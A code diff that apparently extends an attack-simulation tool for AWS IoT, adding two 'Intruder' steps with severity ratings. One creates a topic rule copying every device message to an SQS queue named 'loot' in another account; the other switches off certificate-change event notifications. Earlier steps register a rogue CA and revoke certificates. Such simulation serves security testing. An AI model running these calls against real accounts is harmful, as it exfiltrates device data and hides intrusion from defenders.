@@ -64,6 +64,18 @@ class Intruder:
                 "registers a CA of its own", "iot:RegisterCACertificate", Severity.CRITICAL, self._register_ca
             ),
             Step(
+                "copies every message to an account of its own",
+                "iot:CreateTopicRule",
+                Severity.CRITICAL,
+                self._copy_messages,
+            ),
+            Step(
+                "has AWS IoT no longer tell when certificates change",
+                "iot:UpdateEventConfigurations",
+                Severity.HIGH,
+                self._silence_events,
+            ),
+            Step(
                 "revokes the certificate",
                 "iot:UpdateCertificate",
                 Severity.MEDIUM,
@@ -91,6 +103,20 @@ class Intruder:
         self._iot.register_ca_certificate(
             caCertificate=make_ca_certificate(), certificateMode="SNI_ONLY", setAsActive=True
         )
+
+    def _copy_messages(self) -> None:
+        queue = "https://sqs.us-east-1.amazonaws.com/999999999999/loot"
+        role = "arn:aws:iam::000000000000:role/rules"
+        self._iot.create_topic_rule(
+            ruleName="copy_all",
+            topicRulePayload={
+                "sql": "SELECT * FROM '#'",
+                "actions": [{"sqs": {"queueUrl": queue, "roleArn": role}}],
+            },
+        )
+
+    def _silence_events(self) -> None:
+        self._iot.update_event_configurations(eventConfigurations={"CERTIFICATE": {"Enabled": False}})
 
     def _detach(self) -> None:
         self._iot.detach_policy(policyName="allow-everything", target=self._certificate_arn)
